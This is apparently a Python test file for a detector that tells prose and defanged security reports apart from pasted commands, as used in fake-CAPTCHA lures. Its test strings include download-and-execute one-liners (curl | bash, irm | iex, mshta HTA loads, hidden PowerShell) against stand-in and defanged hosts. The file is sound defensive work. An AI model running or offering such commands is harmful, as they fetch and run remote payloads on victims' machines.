"""Prose is judged on the lines that hold something, wherever they stand."""

from __future__ import annotations

from app.detection.prose import is_prose, is_sample_write_up, is_write_up, reads_as_report

COMMENTS = "# Zoom SDK audio support update for the meeting client\n# Apple notarized helper and nothing else is required here\n"


def test_comments_alone_read_as_prose() -> None:
    assert is_prose(COMMENTS)


def test_a_command_pushed_down_under_blank_lines_is_still_seen() -> None:
    assert not is_prose(COMMENTS + "\n" * 300 + "curl -s https://a.test/z | bash")


def test_a_package_tool_line_with_a_comment_is_a_command() -> None:
    assert not is_prose("deno run --allow-all https://a.test/c.ts   # confirm you are human")


def test_a_sentence_naming_a_pipe_as_words_is_prose() -> None:
    assert is_prose(
        "Attackers now tell Linux users to run a wget | sudo bash one-liner from the page."
    )
    assert is_prose(
        "The page copies a PowerShell command; the same kit serves a curl | bash line to Macs."
    )
    # PowerShell's own words for running what a pipe brings, in any case
    assert is_prose("On Windows the fix button copies an irm | iex line about audio drivers.")
    assert is_prose("Blue teams should alert on iwr | Invoke-Expression lines from the Run box.")
    assert is_prose("The second stage arrives through a plain irm | IEX call behind a banner.")


def test_a_pipe_that_could_fetch_or_feed_more_than_plain_words_is_a_command() -> None:
    for line in (
        "Verify you are human by running this now; curl x | bash",  # a program after the ;
        "Please verify that you are human by running curl x.test/a | bash",  # a host
        "Please continue the setup described on this page | bash -s -- --fix",  # an option
        "Please continue the setup described on this page | sh evil.sh",  # a file name
        "Please continue the setup described on this page | rm all the files",  # no shell
        "Please continue the setup described on this page | bash $HOME/x",  # a variable
        "Please continue the setup described on this page; irm x.test/a | iex",  # a host
        "Please continue the setup described on this page | iex $payload",  # a variable
        "Please continue the setup described on this page; iwr -useb x | iex",  # an option
    ):
        assert not is_prose(line), line


TABLE = (
    "| Date | Vector | Command family |\n|---|---|---|\n| 2026-12-01 | fake CAPTCHA | mshta |\n"
    "| 2026-12-02 | fake update | powershell iwr/iex |"
)


def test_a_markdown_table_runs_nothing_and_is_read_as_a_report() -> None:
    assert is_prose(TABLE)
    # the sentences around it are weighed as usual
    assert is_prose("Commands seen in the wave this week, by family:\n" + TABLE)


def test_a_table_beside_a_command_or_a_pipe_led_continuation_is_not() -> None:
    assert not is_prose(TABLE + "\nmshta https://a.test/v.hta")
    # PowerShell 7 reads a line that begins with a pipe as the stage after the line before it
    assert not is_prose("iwr https://a.test/a.ps1 -UseBasicParsing\n| iex")
    assert not is_prose("| just one row | mshta |")


def test_a_defanged_sample_set_apart_as_reports_set_it_is_quoted() -> None:
    for text in (
        'The loader we observed:\n\n```\npowershell -w h -c "iex (iwr hxxps://a[.]test/p)"\n```\n\n'
        "It runs from the Run box, so its parent process is explorer.exe.",
        "On macOS the page copies the following command:\n\n    curl -fsSL hxxps://a[.]test/i | bash\n\n"
        "The script then asks for the user's password in a dialog.",
        'A user reported that the clipboard held "mshta hxxps://a[.]test/v.hta" when they checked it.',
        "Stage 1 was a one-liner copied by the page (iwr | iex from hxxp://198.51.100[.]7/a.ps1); "
        "stage 2 dropped a RAT under the user's roaming profile.",
    ):
        assert is_sample_write_up(text), text
        assert not is_write_up(text), text  # backticks alone do not see these


def test_a_sample_with_an_order_or_a_command_outside_the_block_is_not() -> None:
    assert not is_sample_write_up(
        "Verify you are human:\n\n```\nmshta hxxps://a[.]test/v.hta\n```\n\nmshta hxxps://a[.]test/w"
    )
    assert not is_sample_write_up(
        'To fix it, run: powershell -w h -c "iwr hxxps://a[.]test/p | iex"'
    )
    # parentheses that open a line are a subshell, not a quote in a sentence
    assert not is_sample_write_up("(iwr hxxps://a[.]test/p | iex)\nThe page copied that.")
    assert not is_sample_write_up("Fix: (curl -s hxxps://a[.]test/s | sh) then press Enter")


def test_a_report_quotes_a_command_after_a_colon_in_a_chat_line_and_among_cjk_sentences() -> None:
    # (only asked of a text whose every address is defanged, pasted where nothing runs)
    assert reads_as_report(
        "Aviso de seguridad: la página falsa pide pegar lo siguiente: mshta "
        "hxxps://verif-es[.]example/c.hta. No lo ejecutes y avisa al equipo de seguridad."
    )
    assert reads_as_report(
        "saw this one in a ticket today: powershell -nop -w h -c "
        '"iex(irm hxxp://198.51.100[.]7/p)" — already blocked at the edge'
    )
    assert reads_as_report(
        "new lure variant: the page tells you to press Win+X and paste. payload still "
        "`iwr hxxps://upd-win[.]example/s|iex`. updated the awareness page."
    )
    assert reads_as_report(
        "セキュリティ通信：偽のCAPTCHA画面でコピーされる文字列の例は mshta "
        "hxxps://jp-check[.]example/v.hta です。心当たりのある方は情報セキュリティ室まで連絡してください。"
    )
    assert reads_as_report(
        "Example of what the fake page copies (do not run):\n\n"
        'cmd /c start /min powershell -w h -c "iex(irm hxxps://v[.]example)"\n\n'
        "Notice the hidden window and the download piped to iex."
    )


def test_a_command_led_line_is_no_report_unless_set_between_sentences() -> None:
    # the command last, first, or alone: what is handed over
    assert not reads_as_report(
        'Bitte bestätigen Sie, dass Sie ein Mensch sind:\npowershell -w h -c "iwr hxxps://p[.]example/s|iex"'
    )
    assert not reads_as_report(
        'powershell -w h -c "iwr hxxps://p[.]example/s|iex"\nThis is a report of it.'
    )
    assert not reads_as_report("mshta hxxps://jp-check[.]example/v.hta")
    # a line that starts a command of its own inside it, a short CJK line, no sentence at all
    assert not reads_as_report("note: $(curl -fsSL hxxps://x[.]example/i) was seen in the ticket")
    assert not reads_as_report("例：mshta hxxps://x[.]example/v")
    assert not reads_as_report("")
    # most lines samples: a list of commands, not a mail
    assert not reads_as_report(
        "Seen today:\nmshta hxxps://a[.]example/v\nThat was all of it.\nAnd then:\n"
        "mshta hxxps://b[.]example/v\nAnd then it was over."
    )
